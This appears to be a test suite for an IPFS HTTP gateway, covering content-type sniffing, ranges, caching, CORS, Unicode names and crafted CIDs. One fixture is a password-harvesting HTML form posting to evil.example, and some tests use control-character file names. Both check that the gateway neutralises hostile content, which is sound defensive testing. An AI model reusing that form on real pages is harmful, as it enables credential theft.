import { Readable } from 'node:stream'
import * as dagPb from '@ipld/dag-pb'
import { CID } from 'multiformats/cid'
import * as raw from 'multiformats/codecs/raw'
import { identity } from 'multiformats/hashes/identity'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { AVATAR_FST, avatarBundle, fixture, makeZip } from '../support/fixtures.ts'
import { appBackends } from '../support/backends.ts'
import { sniffContentType } from '../../src/http/content-types.ts'
import { asBytes, createIdentity, expectNothingLeftBehind, leftovers, startTestHeimdall, type TestHeimdall } from '../support/heimdall-harness.ts'

const glb = fixture('glb/BoxTextured.glb')
/** A 16-bit PCM WAV of 0.1 s of silence at 8 kHz: RIFF, fmt and data chunks. */
const wav = ((): Buffer => {
  const data = Buffer.alloc(1600)
  const header = Buffer.alloc(44)
  header.write('RIFF', 0); header.writeUInt32LE(36 + data.length, 4); header.write('WAVE', 8)
  header.write('fmt ', 12); header.writeUInt32LE(16, 16); header.writeUInt16LE(1, 20); header.writeUInt16LE(1, 22)
  header.writeUInt32LE(8000, 24); header.writeUInt32LE(16000, 28); header.writeUInt16LE(2, 32); header.writeUInt16LE(16, 34)
  header.write('data', 36); header.writeUInt32LE(data.length, 40)
  return Buffer.concat([header, data])
})()

/** The same gateway answers whichever node holds the content. */
const backends = appBackends()

for (const backend of backends) describe.skipIf(!backend.available)(`gateway over ${backend.name}`, () => {
let t: TestHeimdall
let root: string
/** CID of each file of the bundle, by its path in the answer (`hero/avatar.fst`). */
let cids: Map<string, string>
let stopBackend: () => Promise<void>

beforeAll(async () => {
  const started = await backend.start()
  stopBackend = started.stop
  t = await startTestHeimdall(started.env)
  const { token } = await createIdentity(t.request)
  const bundle = await t.request.post('/upload').set('Authorization', `Bearer ${token}`).attach('file', await avatarBundle(), 'hero.zip').expect(200)
  cids = new Map((bundle.body as Array<{ Name: string, Hash: string }>).map((i) => [i.Name, i.Hash]))
  root = cids.get('hero') ?? ''
  await t.request.post('/upload').set('Authorization', `Bearer ${token}`).attach('file', glb, 'box.glb').expect(200)
})
afterAll(async () => { await t.close(); await stopBackend() })

describe('GET /ipfs/<cid>/<path>', () => {
  it('serves a file with its type, length and the immutable, sandboxed headers', async () => {
    const res = await t.request.get(`/ipfs/${root}/textures/skin.png`).buffer(true).parse(asBytes).expect(200)
    expect(Buffer.compare(res.body as Buffer, fixture('gltf/BoxTextured/CesiumLogoFlat.png'))).toBe(0)
    expect(res.headers).toMatchObject({
      'content-type': 'image/png',
      'content-length': String(fixture('gltf/BoxTextured/CesiumLogoFlat.png').length),
      etag: `"${cids.get('hero/textures/skin.png') ?? ''}"`,
      'x-ipfs-path': `/ipfs/${root}/textures/skin.png`,
      'cache-control': 'public, max-age=29030400, immutable',
      'access-control-allow-origin': '*',
      'x-content-type-options': 'nosniff',
      'accept-ranges': 'bytes'
    })
    expect(res.headers['content-security-policy']).toMatch(/^sandbox;/)
    expect(res.headers['content-security-policy']).toContain("default-src 'none'")
  })

  it.each([
    ['avatar.fst', 'text/plain; charset=utf-8'],
    ['box.fbx', 'application/octet-stream']
  ])('types %s as %s', async (path, type) => {
    const res = await t.request.head(`/ipfs/${root}/${path}`).expect(200)
    expect(res.headers['content-type']).toBe(type)
  })

  it('answers HEAD with the headers and no body', async () => {
    const res = await t.request.head(`/ipfs/${root}/box.fbx`).expect(200)
    expect(res.headers['content-length']).toBe(String(fixture('fbx/box-binary.fbx').length))
    expect(res.text).toBeUndefined()
  })

  it('answers byte ranges with 206', async () => {
    const boxRoot = (await t.heimdall.database.knex('uploads').where({ name: 'box' }).first()).root_cid as string
    const res = await t.request.get(`/ipfs/${boxRoot}/box.glb`).set('Range', 'bytes=4-11').buffer(true).parse(asBytes).expect(206)
    expect(res.headers['content-range']).toBe(`bytes 4-11/${glb.length}`)
    expect(res.headers['content-length']).toBe('8')
    expect(res.headers['content-type']).toBe('model/gltf-binary')
    expect(Buffer.compare(res.body as Buffer, glb.subarray(4, 12))).toBe(0)
    const suffix = await t.request.get(`/ipfs/${boxRoot}/box.glb`).set('Range', 'bytes=-4').buffer(true).parse(asBytes).expect(206)
    expect(Buffer.compare(suffix.body as Buffer, glb.subarray(glb.length - 4))).toBe(0)
    const unsatisfiable = await t.request.get(`/ipfs/${boxRoot}/box.glb`).set('Range', `bytes=${glb.length + 10}-`).expect(416)
    expect(unsatisfiable.headers['content-range']).toBe(`bytes */${glb.length}`)
  })

  it('answers If-None-Match with 304', async () => {
    const etag = `"${cids.get('hero/avatar.fst') ?? ''}"`
    const res = await t.request.get(`/ipfs/${root}/avatar.fst`).set('If-None-Match', `"bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy", W/${etag}`).expect(304)
    expect(res.headers.etag).toBe(etag)
    expect(res.headers['cache-control']).toBe('public, max-age=29030400, immutable')
    await t.request.get(`/ipfs/${root}/avatar.fst`).set('If-None-Match', `"/ipfs/${root}/avatar.fst"`).expect(200)
  })

  it('redirects a directory to its slash form and lists it', async () => {
    const redirect = await t.request.get(`/ipfs/${root}`).expect(301)
    expect(redirect.headers.location).toBe(`/ipfs/${root}/`)
    const listing = await t.request.get(`/ipfs/${root}/`).expect(200)
    expect(listing.headers['content-type']).toMatch(/^text\/html/)
    expect(listing.headers['content-security-policy']).toMatch(/^sandbox;/)
    expect(listing.text).toContain(`href="/ipfs/${root}/avatar.fst"`)
    // From the links alone, as Kubo lists: a sub-directory is not read to learn it is one; its 301 adds the slash.
    expect(listing.text).toContain(`href="/ipfs/${root}/textures"`)
    // The root has no way up.
    expect(listing.text).not.toContain('>..</a>')
    expect((await t.request.get(`/ipfs/${root}/textures`).expect(301)).headers.location).toBe(`/ipfs/${root}/textures/`)
    const sub = await t.request.get(`/ipfs/${root}/textures/`).expect(200)
    expect(sub.text).toContain(`href="/ipfs/${root}/textures/skin.png"`)
    expect(sub.text).toContain(`<a href="/ipfs/${root}/textures/..">..</a>`)
  })

  it('lists with Kubo\'s markup, which gateway-conformance checks: breadcrumbs of absolute links, names linking their content path, a CID link with the name', async () => {
    const { token } = await createIdentity(t.request)
    const zip = await makeZip([{ path: 'ą/ę/file-źł.png', data: fixture('gltf/BoxTextured/CesiumLogoFlat.png') }])
    const items = new Map(((await t.request.post('/upload').set('Authorization', `Bearer ${token}`).attach('file', zip, 'polish.zip').expect(200)).body as Array<{ Name: string, Hash: string }>).map((i) => [i.Name, i.Hash]))
    const dir = items.get('polish') ?? ''
    const file = items.get('polish/ą/ę/file-źł.png') ?? ''
    const page = (await t.request.get(`/ipfs/${dir}/%C4%85/%C4%99/`).expect(200)).text
    expect(page).toContain(`/ipfs/<a href="/ipfs/${dir}">${dir}</a>/<a href="/ipfs/${dir}/%C4%85">ą</a>/<a href="/ipfs/${dir}/%C4%85/%C4%99">ę</a>`)
    expect(page).toContain(`<a href="/ipfs/${dir}/%C4%85/%C4%99/..">..</a>`)
    expect(page).toContain(`<a href="/ipfs/${dir}/%C4%85/%C4%99/file-%C5%BA%C5%82.png">file-źł.png</a>`)
    expect(page).toContain(`<a class="ipfs-hash" translate="no" href="/ipfs/${file}?filename=file-%25C5%25BA%25C5%2582.png">`)
  })

  it('answers HEAD on a directory from its resolution: the listing\'s headers, no body', async () => {
    const res = await t.request.head(`/ipfs/${root}/textures/`).expect(200)
    expect(res.headers.etag).toMatch(/^"DirIndex-v2_CID-b[a-z2-7]+"$/)
    expect(res.headers['content-type']).toMatch(/^text\/html/)
    expect(res.text).toBeUndefined()
  })

  it('serves a bundle\'s folder whose own zip entry comes after its files (it was an empty folder, the files lost)', async () => {
    const { token } = await createIdentity(t.request)
    const png = fixture('gltf/BoxTextured/CesiumLogoFlat.png')
    const zip = await makeZip([{ path: 'late/textures/skin.png', data: png }, { path: 'late/textures/' }, { path: 'late/' }])
    const items = (await t.request.post('/upload').set('Authorization', `Bearer ${token}`).attach('file', zip, 'late.zip').expect(200)).body as Array<{ Name: string, Hash: string }>
    const cidOf = (name: string): string => items.find((i) => i.Name === name)?.Hash ?? ''
    const served = await t.request.get(`/ipfs/${cidOf('late')}/late/textures/skin.png`).buffer(true).parse((res, done) => { const chunks: Buffer[] = []; res.on('data', (c: Buffer) => chunks.push(c)); res.on('end', () => { done(null, Buffer.concat(chunks)) }) }).expect(200)
    expect(Buffer.compare(served.body as Buffer, png)).toBe(0)
    // The answer's folders are the ones served: root, late, late/textures, then the file.
    expect(served.headers['x-ipfs-roots']).toBe(['late', 'late/late', 'late/late/textures', 'late/late/textures/skin.png'].map(cidOf).join(','))
  })

  it('404 for an unknown path or an unknown CID, 400 for a malformed CID', async () => {
    await t.request.get(`/ipfs/${root}/missing.png`).expect(404)
    const unknown = await t.request.get('/ipfs/bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy').expect(404)
    expect(unknown.body.error).toMatch(/not found/)
    const bad = await t.request.get('/ipfs/not-a-cid/x.png').expect(400)
    expect(bad.body.error).toMatch(/not a valid CID/)
  })

  it('gives a file asked by its bare CID the type its first bytes show (JSON, PNG, GLB, WAV, text), as boxo sniffs; never a page type', async () => {
    const { token } = await createIdentity(t.request)
    const zip = await makeZip([
      { path: 'clip.json', data: Buffer.from('{"version": "1.1", "root": {"id": "idle"}}') },
      { path: 'box.glb', data: glb },
      { path: 'chime.wav', data: wav }
    ])
    const items = new Map(((await t.request.post('/upload').set('Authorization', `Bearer ${token}`).attach('file', zip, 'sniff.zip').expect(200)).body as Array<{ Name: string, Hash: string }>).map((i) => [i.Name, i.Hash]))
    const typeOf = async (cid: string | undefined): Promise<string> => (await t.request.get(`/ipfs/${cid ?? ''}`).expect(200)).headers['content-type'] ?? ''
    expect(await typeOf(items.get('sniff/clip.json'))).toBe('application/json')
    expect(await typeOf(cids.get('hero/textures/skin.png'))).toBe('image/png')
    expect(await typeOf(items.get('sniff/box.glb'))).toBe('model/gltf-binary')
    // Kubo's gateway plays the sound and shows the text, where a download of octet-stream is all a browser did (nosniff).
    expect(await typeOf(items.get('sniff/chime.wav'))).toBe('audio/wav')
    expect(await typeOf(cids.get('hero/avatar.fst'))).toBe('text/plain; charset=utf-8')
    // HTML or SVG by its bytes is never sniffed: bytes alone never make a page of the gateway's origin.
    expect(sniffContentType(Buffer.from('<!DOCTYPE html><html><body>x</body></html>'), true)).toBeUndefined()
    expect(sniffContentType(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), true)).toBeUndefined()
    expect(sniffContentType(Buffer.from('\ufeff  <html><body>x</body></html>'), true)).toBeUndefined()
    // JSON only when the whole file was looked at and parses; otherwise it is text.
    expect(sniffContentType(Buffer.from('{"a": [1, 2'), false)).toBe('text/plain; charset=utf-8')
    expect(sniffContentType(Buffer.from('{"a": [1, 2'), true)).toBe('text/plain; charset=utf-8')
    // Text cut inside a character is still text; bytes that are not UTF-8 or are binary are not.
    expect(sniffContentType(Buffer.from('v café').subarray(0, 6), false)).toBe('text/plain; charset=utf-8')
    expect(sniffContentType(Buffer.from('v café').subarray(0, 6), true)).toBeUndefined()
    expect(sniffContentType(Buffer.from([0x76, 0x20, 0xe9, 0x0a]), true)).toBeUndefined()
    expect(sniffContentType(Buffer.from('Kaydara FBX Binary  \u0000\u001a\u0000'), false)).toBeUndefined()
    // The sounds Overte plays, and BMP textures.
    const ogg = (codec: Buffer): Buffer => Buffer.concat([Buffer.from('OggS'), Buffer.alloc(24), codec])
    expect(sniffContentType(ogg(Buffer.from('\u0001vorbis')), false)).toBe('audio/ogg')
    expect(sniffContentType(ogg(Buffer.from('OpusHead')), false)).toBe('audio/ogg')
    expect(sniffContentType(ogg(Buffer.from('\u0080theora')), false)).toBeUndefined()
    expect(sniffContentType(Buffer.from('ID3\u0004\u0000'), false)).toBe('audio/mpeg')
    expect(sniffContentType(Buffer.from([0xff, 0xfb, 0x90, 0x64]), false)).toBe('audio/mpeg')
    const bmp = Buffer.alloc(54); bmp.write('BM'); bmp.writeUInt32LE(40, 14)
    expect(sniffContentType(bmp, false)).toBe('image/bmp')
    expect(sniffContentType(Buffer.from('BMW parts list\n'), true)).toBe('text/plain; charset=utf-8')
    // HEAD says the same; a name's extension still comes first.
    expect((await t.request.head(`/ipfs/${items.get('sniff/clip.json') ?? ''}`).expect(200)).headers['content-type']).toBe('application/json')
    expect((await t.request.get(`/ipfs/${root}/avatar.fst`).expect(200)).headers['content-type']).toBe('text/plain; charset=utf-8')
  })

  it('answers CORS preflight, and sends the same CORS headers on GET, as boxo (gateway-conformance checks both)', async () => {
    const preflight = await t.request.options(`/ipfs/${root}/box.fbx`).set('Origin', 'https://viewer.example').set('Access-Control-Request-Method', 'GET').expect(204)
    const got = await t.request.get(`/ipfs/${root}/box.fbx`).set('Origin', 'https://viewer.example').expect(200)
    for (const res of [preflight, got]) {
      expect(res.headers['access-control-allow-origin']).toBe('*')
      expect(res.headers['access-control-allow-methods']).toBe('GET, HEAD, OPTIONS')
      for (const header of ['Range', 'X-Requested-With', 'Content-Type', 'User-Agent']) expect(res.headers['access-control-allow-headers']).toContain(header)
      for (const header of ['Content-Range', 'X-Ipfs-Path', 'X-Ipfs-Roots', 'X-Chunked-Output', 'X-Stream-Output']) expect(res.headers['access-control-expose-headers']).toContain(header)
    }
  })
})

/** Every byte of a header value is visible ASCII: what Node (and HTTP) accepts without mangling. */
const ASCII_HEADER = /^[\x20-\x7e]*$/

describe('Unicode names', () => {
  const png = fixture('gltf/BoxTextured/CesiumLogoFlat.png')
  let token: string
  beforeAll(async () => { ({ token } = await createIdentity(t.request)) })

  it.each(['テクスチャ.png', 'emoji😀.png', 'über.png', 'a b+c%20(1)#?&.png'])('uploads %s and serves it from its own link with ASCII headers', async (name) => {
    const stem = name.slice(0, -'.png'.length)
    const answer = await t.request.post('/upload').set('Authorization', `Bearer ${token}`).attach('file', png, name).expect(200)
    const items = answer.body as Array<{ Name: string, Hash: string, primary?: string }>
    expect(items.map((i) => i.Name)).toEqual([`${stem}/${name}`, stem])
    const fileCid = items[0]?.Hash ?? ''
    const root = items[1]?.Hash ?? ''

    const list = await t.request.get('/uploads').set('Authorization', `Bearer ${token}`).expect(200)
    const listed = (list.body as { uploads: Array<{ name: string, rootCid: string, files: Array<{ path: string, url: string }> }> }).uploads.find((u) => u.rootCid === root)
    expect(listed?.name).toBe(stem)
    expect(listed?.files.map((f) => f.path)).toEqual([name])
    const link = new URL(listed?.files[0]?.url ?? '').pathname
    expect(link).toBe(`/ipfs/${root}/${encodeURIComponent(name)}`)

    const res = await t.request.get(link).buffer(true).parse(asBytes).expect(200)
    expect(Buffer.compare(res.body as Buffer, png)).toBe(0)
    for (const [header, value] of Object.entries(res.headers)) expect(`${header}: ${String(value)}`).toMatch(ASCII_HEADER)
    expect(res.headers['x-ipfs-path']).toBe(`/ipfs/${root}/${encodeURIComponent(name)}`)
    expect(res.headers.etag).toBe(`"${fileCid}"`)
    expect(res.headers['content-type']).toBe('image/png')
    await t.request.get(link).set('If-None-Match', `"${fileCid}"`).expect(304)

    const listing = await t.request.get(`/ipfs/${root}/`).expect(200)
    expect(listing.text).toContain(`href="/ipfs/${root}/${encodeURIComponent(name)}"`)
    expect(listing.text).toContain(name.replace(/&/g, '&amp;'))
  })

  it('keeps long multi-byte names through a bundle of many files (an answer of many reads)', async () => {
    // ~1 KiB of JSON per name, 120 of them: the add answer spans many socket reads. (Chunks split inside
    // a character deterministically in test/ipfs/kubo-add-answer.test.ts.)
    const names = Array.from({ length: 120 }, (_, i) => `${'テ'.repeat(60 + (i % 7))}😀${'ü'.repeat(i % 5)}${'字'.repeat(200)}-${i}.png`)
    const zip = await makeZip(names.map((path, i) => ({ path: `フォルダ/${path}`, data: Buffer.concat([png, Buffer.from([i])]) })))
    const answer = await t.request.post('/upload').set('Authorization', `Bearer ${token}`).attach('file', zip, '束.zip').expect(200)
    const items = answer.body as Array<{ Name: string, Hash: string }>
    expect(items.map((i) => i.Name).sort()).toEqual([...names.map((n) => `束/フォルダ/${n}`), '束/フォルダ', '束'].sort())
    const root = items.at(-1)?.Hash ?? ''
    const last = names.at(-1) ?? ''
    const res = await t.request.head(`/ipfs/${root}/${encodeURIComponent('フォルダ')}/${encodeURIComponent(last)}`).expect(200)
    expect(res.headers['x-ipfs-path']).toBe(`/ipfs/${root}/${encodeURIComponent('フォルダ')}/${encodeURIComponent(last)}`)
  })

  it.each(['bell\u0007.png', 'tab\there.png', 'esc\u001b[31m.png', 'next-line\u0085.png', 'csi\u009b.png', 'del\u007f.png'])('refuses a control character in a file name (%j) with 400, leaving nothing', async (name) => {
    const before = await leftovers(t)
    const res = await t.request.post('/upload').set('Authorization', `Bearer ${token}`).attach('file', png, name).expect(400)
    // busboy already refuses some of them in the part header; the name check catches the rest.
    expect((res.body as { error: string }).error).toMatch(/control character|Malformed part header/)
    await expectNothingLeftBehind(t, before)
  })

  it('refuses a bundle entry with a control character in its path with 400, leaving nothing', async () => {
    const before = await leftovers(t)
    const zip = await makeZip([{ path: 'ok.png', data: png }, { path: 'dir\u0085/x\u0007.png', data: png }])
    const res = await t.request.post('/upload').set('Authorization', `Bearer ${token}`).attach('file', zip, 'bundle.zip').expect(400)
    expect((res.body as { details: string[] }).details.join('\n')).toMatch(/control character/)
    await expectNothingLeftBehind(t, before)
  })
})

describe('malformed and crafted CIDs', () => {
  it('refuses an identity CID whose digest is over 128 bytes with 400', async () => {
    const long = CID.createV1(raw.code, identity.digest(new Uint8Array(129).fill(0x61))).toString()
    const res = await t.request.get(`/ipfs/${long}`).expect(400)
    expect((res.body as { error: string }).error).toMatch(/identity/)
    expect(res.headers['access-control-allow-origin']).toBe('*')
    const atLimit = CID.createV1(raw.code, identity.digest(new Uint8Array(128).fill(0x61))).toString()
    const ok = await t.request.get(`/ipfs/${atLimit}`).buffer(true).parse(asBytes).expect(200)
    expect((ok.body as Buffer).length).toBe(128)
  })

  it.each([
    ['a CID with a truncated multihash', 'bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aq'],
    ['a CIDv0 of the wrong length', 'QmQJ8fxavY54CUsxMSx9aE9Rdcmvhx8awJK2jzJp4iAq'],
    ['an unknown multibase', 'zzzz'],
    ['bytes that are no varint', 'bafyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy']
  ])('answers %s with 400', async (_what, value) => {
    const res = await t.request.get(`/ipfs/${value}/x.png`).expect(400)
    expect(res.headers['access-control-allow-origin']).toBe('*')
  })
})

describe('documents that no one uploaded', () => {
  const html = '<!doctype html><form action=//evil.example>password<input name=p></form>'

  /** A directory whose bytes are inside its own CID (at most 128 of them), linking `name` whose bytes are inside its CID. */
  function identityDirectory (name: string): string {
    const page = CID.createV1(raw.code, identity.digest(new TextEncoder().encode(html)))
    // UnixFS Data { Type: Directory } is the two protobuf bytes 08 01.
    const node = dagPb.encode(dagPb.prepare({ Data: Uint8Array.of(0x08, 0x01), Links: [{ Name: name, Hash: page, Tsize: html.length }] }))
    expect(node.length).toBeLessThanOrEqual(128)
    return CID.createV1(dagPb.code, identity.digest(node)).toString()
  }

  it.each(['page.html', 'drawing.svg'])('serves %s under an identity CID as plain text to download, never as a document', async (name) => {
    const dir = identityDirectory(name)
    const res = await t.request.get(`/ipfs/${dir}/${name}`).expect(200)
    expect(res.headers['content-type']).toBe('text/plain; charset=utf-8')
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${name}"; filename*=UTF-8''${name}`)
    expect(res.headers['x-content-type-options']).toBe('nosniff')
    expect(res.text).toBe(html)
  })

  it('takes the type from ?filename= when given, as boxo does (the listing links each CID so), still never a document', async () => {
    const nodes = await t.heimdall.backend.importTree([
      { path: 'wave.js', content: Readable.from([Buffer.from('print("hi")\n')]) },
      { path: 'page.html', content: Readable.from([Buffer.from(html)]) }
    ], { profile: 'unixfs-v1-2025' })
    const file = (path: string): string => nodes.find((n) => n.path === path)?.cid.toString() ?? ''
    const script = await t.request.get(`/ipfs/${file('wave.js')}?filename=wave.js`).expect(200)
    expect(script.headers['content-type']).toBe('text/javascript; charset=utf-8')
    expect((await t.request.get(`/ipfs/${file('wave.js')}?filename=sound.wav`).expect(200)).headers['content-type']).toBe('audio/wav')
    // Without it, a bare CID of text is plain text, as Kubo sniffs it.
    expect((await t.request.get(`/ipfs/${file('wave.js')}`).expect(200)).headers['content-type']).toBe('text/plain; charset=utf-8')
    // A document's name asked for is not taken: the bytes are typed as if no name were given.
    expect((await t.request.get(`/ipfs/${file('page.html')}?filename=page.html`).expect(200)).headers['content-type']).toBe('application/octet-stream')
    // Under a root pinned here (every upload is one), a text file asked for as .html, .svg or .pdf keeps its own type.
    const held = await t.heimdall.backend.importTree([{ path: 'note.txt', content: Readable.from([Buffer.from(html)]) }], { profile: 'unixfs-v1-2025' })
    const root = held.at(-1)?.cid
    if (root === undefined) throw new Error('no root')
    await t.heimdall.backend.pin(root)
    try {
      for (const asked of ['a.html', 'a.svg', 'a.pdf', 'a.xml']) {
        const res = await t.request.get(`/ipfs/${root.toString()}/note.txt?filename=${asked}`).expect(200)
        expect(res.headers['content-type'], asked).toBe('text/plain; charset=utf-8')
      }
    } finally {
      await t.heimdall.backend.unpin(root)
    }
  })

  it('serves HTML as HTML only under a root pinned here', async () => {
    const nodes = await t.heimdall.backend.importTree([{ path: 'ページ.html', content: Readable.from([Buffer.from(html)]) }], { profile: 'unixfs-v1-2025' })
    const dir = nodes.at(-1)?.cid
    if (dir === undefined) throw new Error('no root')
    const link = `/ipfs/${dir.toString()}/${encodeURIComponent('ページ.html')}`
    const held = await t.request.get(link).expect(200)
    expect(held.headers['content-type']).toBe('text/plain; charset=utf-8')
    expect(held.headers['content-disposition']).toBe(`attachment; filename="___.html"; filename*=UTF-8''${encodeURIComponent('ページ.html')}`)
    await t.heimdall.backend.pin(dir)
    try {
      const pinned = await t.request.get(link).expect(200)
      expect(pinned.headers['content-type']).toBe('text/html; charset=utf-8')
      expect(pinned.headers['content-disposition']).toBeUndefined()
      expect(pinned.headers['content-security-policy']).toMatch(/^sandbox;/)
    } finally {
      await t.heimdall.backend.unpin(dir)
    }
  })
})

describe('cookies, CORS and caching on every gateway answer', () => {
  it('sets no cookie on a directory listing for a browser, nor on its errors', async () => {
    const listing = await t.request.get(`/ipfs/${root}/`).set('Accept', 'text/html').expect(200)
    expect(listing.headers['set-cookie']).toBeUndefined()
    // The directory is immutable, the page generated for it is not: boxo's listing lifetime.
    expect(listing.headers['cache-control']).toBe('public, max-age=604800, stale-while-revalidate=2678400')
    const missing = await t.request.get(`/ipfs/${root}/nothing-here/`).set('Accept', 'text/html').expect(404)
    expect(missing.headers['set-cookie']).toBeUndefined()
    const bare = await t.request.get('/ipfs/').set('Accept', 'text/html').expect(404)
    expect(bare.headers['set-cookie']).toBeUndefined()
  })

  it.each([
    ['an unknown path', 'GET', (): string => `/ipfs/${root}/missing.png`, {}, 404],
    ['an unknown CID', 'GET', (): string => '/ipfs/bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy', {}, 404],
    ['a malformed CID', 'GET', (): string => '/ipfs/not-a-cid/x.png', {}, 400],
    ['no CID', 'GET', (): string => '/ipfs/', {}, 404],
    ['an unsatisfiable range', 'GET', (): string => `/ipfs/${root}/avatar.fst`, { Range: 'bytes=100000-' }, 416],
    ['a POST', 'POST', (): string => `/ipfs/${root}/avatar.fst`, {}, 405]
  ] as const)('answers %s with CORS and nosniff headers and no immutable caching', async (_what, method, path, headers, status) => {
    const req = method === 'POST' ? t.request.post(path()) : t.request.get(path())
    const res = await req.set(headers).set('Origin', 'https://viewer.example').expect(status)
    expect(res.headers['access-control-allow-origin']).toBe('*')
    expect(res.headers['access-control-expose-headers']).toContain('X-Ipfs-Path')
    expect(res.headers['x-content-type-options']).toBe('nosniff')
    expect(res.headers['cache-control'] ?? '').not.toMatch(/immutable|public/)
    expect(res.headers['set-cookie']).toBeUndefined()
  })
})

describe('byte ranges (RFC 9110)', () => {
  const fst = Buffer.from(AVATAR_FST)
  const path = (): string => `/ipfs/${root}/avatar.fst`
  const get = (headers: Record<string, string>) => t.request.get(path()).set(headers).buffer(true).parse(asBytes)

  it('serves a suffix range longer than the file as the whole file, 206', async () => {
    const res = await get({ Range: `bytes=-${fst.length + 100}` }).expect(206)
    expect(res.headers['content-range']).toBe(`bytes 0-${fst.length - 1}/${fst.length}`)
    expect(Buffer.compare(res.body as Buffer, fst)).toBe(0)
  })

  it('answers several ranges with the first satisfiable one in the client\'s order, 206, as boxo (gateway-conformance\'s "multiple range request")', async () => {
    const res = await get({ Range: `bytes=6-16,0-4,${fst.length + 5}-` }).expect(206)
    expect(res.headers['content-range']).toBe(`bytes 6-16/${fst.length}`)
    expect(Buffer.compare(res.body as Buffer, fst.subarray(6, 17))).toBe(0)
    const skipped = await get({ Range: `bytes=${fst.length + 5}-,0-4` }).expect(206)
    expect(skipped.headers['content-range']).toBe(`bytes 0-4/${fst.length}`)
  })

  it.each(['items=0-5', 'bytes=abc', 'bytes=0-1,x'])('answers Range: %s with the whole file, 200', async (range) => {
    const res = await get({ Range: range }).expect(200)
    expect(res.headers['content-range']).toBeUndefined()
    expect(Buffer.compare(res.body as Buffer, fst)).toBe(0)
  })

  it('honours If-Range only when it names this representation\'s ETag', async () => {
    const etag = (await t.request.head(path()).expect(200)).headers.etag as string
    expect(etag).toMatch(/^"b[a-z2-7]+"$/)
    const matching = await get({ Range: 'bytes=0-3', 'If-Range': etag }).expect(206)
    expect(Buffer.compare(matching.body as Buffer, fst.subarray(0, 4))).toBe(0)
    for (const validator of ['"bafkreigh2akiscaildcqabsyg3dfr6chu3fgpregiymsck7e7aqa4s52zy"', `W/${etag}`, 'Wed, 21 Oct 2015 07:28:00 GMT']) {
      const full = await get({ Range: 'bytes=0-3', 'If-Range': validator }).expect(200)
      expect(Buffer.compare(full.body as Buffer, fst)).toBe(0)
    }
  })
})

describe('probes', () => {
  it('/healthz and /readyz answer ok while everything is up', async () => {
    expect((await t.request.get('/healthz').expect(200)).body).toEqual({ status: 'ok' })
    expect((await t.request.get('/readyz').expect(200)).body).toEqual({ status: 'ready', checks: { database: 'ok', ipfs: 'ok', disk: 'ok' } })
  })
})
})
